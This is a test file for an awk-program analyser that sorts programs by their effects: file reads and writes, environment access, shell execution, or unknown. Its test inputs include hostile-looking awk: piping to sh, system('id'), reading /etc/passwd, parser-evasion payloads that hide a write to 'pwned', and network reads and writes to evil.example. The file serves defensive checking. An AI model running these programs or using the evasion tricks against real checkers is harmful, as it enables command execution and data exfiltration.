import { describe, expect, it } from "vitest";
import { awkProgram } from "./awk-program.ts";

const printing = [
  "{print $1}",
  "NR > 1 && $3 >= 5 {print}",
  "{ if ($1 > 2) print $2; else print $3 }",
  '{ print ($1 > 5) ? "big" : "small" }',
  '/a"b/ {n++} END {print n/2, (n+1)/3}',
  "{ if (/x|y/) z++; print a[1]/b }",
  "$1 ~ /a[[:alpha:]]\\/[^b]/ && !/c/ || NR > 2 { next }",
  "/a/,/b/ { n++ } END { if (n) print n; else print 0 }",
  '{ for (i = 1; i <= NF; i++) { s += $i } printf "%d\\n", s / NF }',
  "{ for (k in a) delete a[k]; do i++; while (i < 3) }",
  '{ while ((getline line) > 0) print n++ ": " line }',
  "function max(a, b) {\n  return a > b ? a : b\n}\n{ print max($1,\n $2) } # end",
  "NR == FNR { a[$1] = $2; next } ($1 in a) { print a[$1] }",
  "length > 80 { print length, length($0) }",
  "function f(a) { return a } { print f($1) }",
  "{ getline; getline x; print x }",
  'BEGIN { PROCINFO["sorted_in"] = "@ind_str_asc" }',
  '# system("x") | "y"\n{print}',
  '{ print "a > b | c" }',
];

const asking = [
  '{print | "sh"}',
  '{print |& "sh"}',
  '"id" | getline',
  'BEGIN{system("id")}',
  '{print 1system("id")}',
  "{print > $1}",
  '{print > "a" "b"}',
  '{printf("x") > f}',
  '@include "x"',
  '{f = "system"; @f("id")}',
  'BEGIN{ARGV[1] = "/etc/passwd"}',
  '{print SYMTAB["x"]}',
  '{extension("x")}',
  '/[/"]/ {print "x"}',
  "{getline x < $1}",
  '{getline a[getline y] < "f"}',
  '{print "unterminated}',
  "{print 'x'}",
  "# goes on \\\n| {print}",
  'BEGIN { x = length /"/ ; system("touch pwned") # "/\n}',
  'BEGIN { x = NR ~ 1 ? length /"/ ; print > "pwned" # "/ : 2\n}',
  'BEGIN { getline /"/ ; print > "pwned" # "/\n}',
  'BEGIN { x = rand /"/ ; print > "pwned" # "/\n}',
  'BEGIN { x++ /"/ ; print > "pwned" # "/\n}',
  'BEGIN { x = "a" /"/ ; print > "pwned" # "/\n}',
  'BEGIN { print /"/ > "pwned" # "/\n}',
  'BEGIN { if (x) /"/ ; print > "pwned" # "/\n}',
  '/[]/ "]/ { print > "pwned" } # "/',
  '/[^]/ "]/ { print > "pwned" } # "/',
  '/[[:x]/ "]/ { print > "pwned" } # "/',
  'BEGIN{ print 1 ?\n 2 : 3 > "pwned" }',
  'BEGIN{ print 1 ? 2 :\n 3 > "pwned" }',
  'BEGIN{ print 1 +\n 3 > "pwned" }',
  'BEGIN{ print (1\n) > "pwned" }',
  'BEGIN{ print 1 >\n "pwned" }',
  "BEGIN\n{ print 1 }",
  'BEGIN { getline x < "/inet/tcp/0/evil.example/80" }',
  'BEGIN { print > "/inet/tcp/0/evil.example/80" }',
  'BEGIN { getline < "a" "b" }',
  'BEGIN { getline x + 1 < "b" }',
  "BEGIN { print 1 ? 2 : 3 > f }",
  "BEGIN { switch (1) { case /x/: print } }",
  'func f() { print > "pwned" }',
  'BEGIN { print _"x" }',
  'BEGIN { and = 1; print and /"/ ; print > "pwned" # "/\n}',
  "BEGIN { x = 0x1f }",
  "BEGIN { f(1) }",
  "{ print \r}",
];

describe("an awk program", () => {
  it.each(printing)("has no consequence when it only prints: %s", (program) => {
    expect(awkProgram(program)).toEqual([]);
  });

  it.each(asking)("is unknown when it runs something or is invalid: %s", (program) => {
    expect(awkProgram(program)).toContainEqual(expect.objectContaining({ type: "unknown" }));
  });

  it.each([
    '{print > "out"}',
    '{print >> "out"}',
    '{printf "%s", $1 > "out"}',
    '{print $1,\n$2 > "out"; x = 1}',
    '{print(1)(2)>"out"\n}',
  ])("writes the file it prints to: %s", (program) => {
    expect(awkProgram(program)).toEqual([{ type: "path", use: "output", path: "out" }]);
  });

  it("writes the standard error output, which may be a file", () => {
    expect(awkProgram('{ print > "/dev/stderr" }')).toEqual([
      { type: "path", use: "output", path: "/dev/stderr" },
    ]);
  });

  it("keeps the effects found before an invalid part", () => {
    expect(awkProgram('BEGIN { system("sudo id"); x = length /"/ }')).toContainEqual(
      expect.objectContaining({ type: "unknown" }),
    );
    expect(awkProgram('BEGIN { system("sudo id"); x ! y }')).toContainEqual({
      type: "script",
      text: "sudo id",
    });
  });

  it("reads the file that getline names", () => {
    expect(awkProgram('BEGIN{while ((getline l < "f") > 0) print l}')).toEqual([
      { type: "path", use: "read", path: "f" },
    ]);
  });

  it("shows variables of the environment", () => {
    const one = (variable: string): unknown => [{ type: "environment", variable, value: true }];
    expect(awkProgram('BEGIN{print ENVIRON["HOME"]}')).toEqual(one("HOME"));
    expect(awkProgram("BEGIN{print ENVIRON[x]}")).toEqual(one("*"));
  });
});
